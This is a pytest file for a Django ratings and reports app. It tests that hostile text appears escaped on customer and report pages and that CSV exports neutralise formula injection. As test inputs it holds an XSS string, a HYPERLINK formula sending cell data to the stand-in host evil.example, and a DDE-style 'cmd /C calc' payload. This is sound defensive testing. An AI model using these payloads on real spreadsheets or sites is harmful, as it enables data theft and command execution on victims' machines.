"""Hostile text on the customer pages (A1, A7), the report pages (R2–R4) and the CSVs (R5)."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils.html import escape

from conversations import services
from conversations.text import text_to_html
from ratings.models import Rating, RatingRequest
from ratings.services import MAX_COMMENT_LENGTH, rating_comment, rating_submit
from ratings.tokens import messenger_token
from reports.exports import FORMULA_STARTS
from tests.factories import ContactFactory, TeammateFactory, start_conversation
from tests.hostile_input.support import (
    IDS,
    NUL,
    TEXTS,
    _counts,
    _html,
    assert_shown_as_text,
    page_text,
)
from tests.report_helpers import DAY, MARCH, csv_rows, rate, requested, token_for


def _rate_url(request: RatingRequest, name: str = "ratings:rate") -> str:
    return reverse(name, args=[token_for(request)])


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_A1_hostile_comment_and_names_on_the_rating_page(db, client, capture, text):
    """The customer rates and comments through the forms; the comment is kept exactly and the
    page shows it, the teammate's name and the reaction as text."""
    teammate = TeammateFactory(name=text)
    request = requested(capture, teammate, at=DAY, contact=ContactFactory(name=text))
    assert client.post(_rate_url(request), {"value": "2"}).status_code == 303
    response = client.post(_rate_url(request, "ratings:rate_comment"), {"comment": text})
    assert response.status_code == 303
    rating = Rating.objects.get(request=request)
    assert rating.comment == text
    assert rating.history.get(kind="commented").comment == text
    html = _html(client.get(_rate_url(request)))
    assert_shown_as_text(html, text)  # the comment and the teammate's name
    assert html.count(escape(text)) >= 2


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_A1_hostile_messages_and_names_in_the_messenger_view(db, client, text):
    contact = ContactFactory(name=text)
    teammate = TeammateFactory(name=text)
    # Messages typed as text are kept as HTML showing that text (M17), as the forms keep them.
    typed = text_to_html(text)
    conversation = start_conversation(
        contacts=[contact], started_by=contact, body=typed, subject=text
    )
    services.conversation_reply(conversation=conversation, author=teammate, body=typed)
    html = _html(
        client.get(reverse("messenger:link", args=[messenger_token(contact_id=contact.pk)]))
    )
    assert_shown_as_text(html, text, bodies=True)
    # The contact's name, the subject and the teammate's name, escaped as Django escapes.
    assert html.count(escape(text)) >= 3
    # The two messages, as the text their HTML shows.
    assert page_text(html).count(text) >= 5


def test_A1_a_comment_of_exactly_5000_characters_is_kept_whole(client, capture, teammate):
    request = requested(capture, teammate, at=DAY)
    client.post(_rate_url(request), {"value": "1"})
    # Every kind of trouble at once, cut to the maximum (code points, not bytes).
    comment = ("".join(TEXTS) * 20)[:MAX_COMMENT_LENGTH].strip()
    comment += "x" * (MAX_COMMENT_LENGTH - len(comment))
    assert len(comment) == MAX_COMMENT_LENGTH
    response = client.post(_rate_url(request, "ratings:rate_comment"), {"comment": comment})
    assert response.status_code == 303
    assert Rating.objects.get(request=request).comment == comment
    assert escape(comment).replace("\n", "<br>") in _html(client.get(_rate_url(request)))


def test_A1_5000_emoji_with_skin_tones_are_5000_characters(capture, teammate):
    """The limit counts code points: 2,500 thumbs with a skin tone (two code points each, eight
    bytes in UTF-8) are exactly the maximum; one more character is refused."""
    request = requested(capture, teammate, at=DAY)
    token = token_for(request)
    rating_submit(token=token, value=4)
    with pytest.raises(ValidationError) as refused:
        rating_comment(token=token, comment="👍🏽" * 2500 + "!")
    assert refused.value.code == "too_long"
    rating = rating_comment(token=token, comment="👍🏽" * 2500)
    rating.refresh_from_db()
    assert rating.comment == "👍🏽" * 2500


def test_A7_a_comment_over_5000_characters_is_refused_in_words_and_echoed_escaped(
    client, capture, teammate
):
    """One character too many: a 400 that says why, the typed text given back in the form
    (escaped: it cannot close the textarea), nothing written."""
    request = requested(capture, teammate, at=DAY)
    client.post(_rate_url(request), {"value": "1"})
    before = _counts()
    comment = ("</textarea><script>alert(1)</script>" * 200)[: MAX_COMMENT_LENGTH + 1]
    response = client.post(_rate_url(request, "ratings:rate_comment"), {"comment": comment})
    html = _html(response, 400)
    assert f"The comment is longer than {MAX_COMMENT_LENGTH} characters." in html
    assert "</textarea><script>" not in html
    assert _counts() == before
    rating = Rating.objects.get(request=request)
    assert (rating.comment, rating.commented_at) == ("", None)


def test_A7_a_comment_with_a_NUL_character_is_a_400_in_words(client, capture, teammate):
    """PostgreSQL cannot store NUL in text: the form refuses it (400), and so does the service
    behind it (a ValidationError, not a database error) on every database."""
    request = requested(capture, teammate, at=DAY)
    client.post(_rate_url(request), {"value": "2"})
    before = _counts()
    response = client.post(_rate_url(request, "ratings:rate_comment"), {"comment": NUL})
    assert "Null characters are not allowed." in _html(response, 400)
    with pytest.raises(ValidationError) as refused:
        rating_comment(token=token_for(request), comment=NUL)
    assert refused.value.code == "null_character"
    assert "NUL" in refused.value.messages[0]
    assert _counts() == before
    assert Rating.objects.get(request=request).commented_at is None


# --- the report pages (R2, R3, R4) --------------------------------------------------------------


def test_R3_hostile_comments_and_names_on_the_comments_page(client_, hostile_ratings):
    html = _html(client_.get(f"{reverse('reports:comments')}?{MARCH}"))
    for text, _, rating in hostile_ratings:
        assert_shown_as_text(html, text)
        assert f'id="rating-{rating.pk}"' in html
        # The comment, the contact's name and "rated <teammate>", at least.
        assert html.count(escape(text)) >= 3


def test_R4_hostile_comments_on_each_teammates_achievements(client_, hostile_ratings):
    for text, teammate, rating in hostile_ratings:
        url = f"{reverse('reports:achievements')}?{MARCH}&teammate={teammate.pk}"
        html = _html(client_.get(url))
        assert_shown_as_text(html, text)
        assert f'id="rating-{rating.pk}"' in html


def test_R2_R1_hostile_teammate_names_on_the_teammates_and_summary_pages(client_, hostile_ratings):
    for name in ("reports:teammates", "reports:summary"):
        html = _html(client_.get(f"{reverse(name)}?{MARCH}"))
        for text, _, _ in hostile_ratings:
            assert_shown_as_text(html, text)


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_R3_hostile_filter_values_are_set_aside_or_echoed_as_text(client_, text):
    """Whatever is typed into the query string: a page (never a 500), and what it echoes back
    (the reason filter, the error messages) is text."""
    query = {"reason": text, "teammate": text, "from": text, "to": "2025-03-31"}
    html = _html(client_.get(reverse("reports:comments"), query))
    assert_shown_as_text(html, text)  # the reason, kept as a filter
    response = client_.get(reverse("reports:comments_csv"), query)
    assert response.status_code == 400  # the dates and the teammate are refused, in words
    assert response["Content-Type"].startswith("text/plain")


# --- CSV (R5) -----------------------------------------------------------------------------------


def test_R5_hostile_text_comes_back_exactly_in_the_comments_csv(client_, hostile_ratings):
    header, *rows = csv_rows(client_.get(f"{reverse('reports:comments_csv')}?{MARCH}"))
    column = {name: header.index(name) for name in ("Comment", "Teammate", "Contact")}
    by_id = {int(row[header.index("Conversation")]): row for row in rows}
    assert len(rows) == len(hostile_ratings)
    for text, _, rating in hostile_ratings:
        row = by_id[rating.conversation_id]
        assert [row[i] for i in column.values()] == [text, text, text]


def test_R5_hostile_teammate_names_come_back_exactly_in_the_teammates_csv(client_, hostile_ratings):
    header, *rows = csv_rows(client_.get(f"{reverse('reports:teammates_csv')}?{MARCH}"))
    names = {row[header.index("Teammate")] for row in rows}
    assert {text for text, _, _ in hostile_ratings} <= names


def test_R5_a_5000_character_comment_comes_back_whole_in_the_csv(client_, capture, teammate):
    comment = ('line one, "quoted";\nline two\t' + "é👍🏽" * 2000)[:MAX_COMMENT_LENGTH]
    rate(capture, teammate, 2, comment=comment)
    header, row = csv_rows(client_.get(f"{reverse('reports:comments_csv')}?{MARCH}"))
    assert row[header.index("Comment")] == comment


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_R5_formulas_are_neutralised_in_both_csvs(client_, capture, start):
    """A cell a spreadsheet would compute gets a leading quote (OWASP's CSV injection advice):
    the comment, the contact's and the teammate's names; the same text elsewhere in a cell, or
    after the first character, is left alone."""
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    teammate = TeammateFactory(name=f"{start}cmd|' /C calc'!A0")
    contact = ContactFactory(name=f"{start}SUM(1+1)*cmd", email="mal@example.com")
    rate(capture, teammate, 1, comment=formula, contact=contact)
    rate(capture, teammate, 2, comment=f"Fine {formula}", at=DAY + timedelta(minutes=1))
    header, *rows = csv_rows(client_.get(f"{reverse('reports:comments_csv')}?{MARCH}"))
    comments = {row[header.index("Comment")] for row in rows}
    assert comments == {"'" + formula, f"Fine {formula}"}
    row = next(row for row in rows if row[header.index("Comment")] == "'" + formula)
    assert row[header.index("Teammate")] == "'" + teammate.name
    assert row[header.index("Contact")] == "'" + contact.name
    header, *rows = csv_rows(client_.get(f"{reverse('reports:teammates_csv')}?{MARCH}"))
    assert "'" + teammate.name in {row[header.index("Teammate")] for row in rows}
    # Every formula start the exporter guards against (tab and CR too, which the services
    # strip from the ends of what they keep).
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


# --- the admin ----------------------------------------------------------------------------------
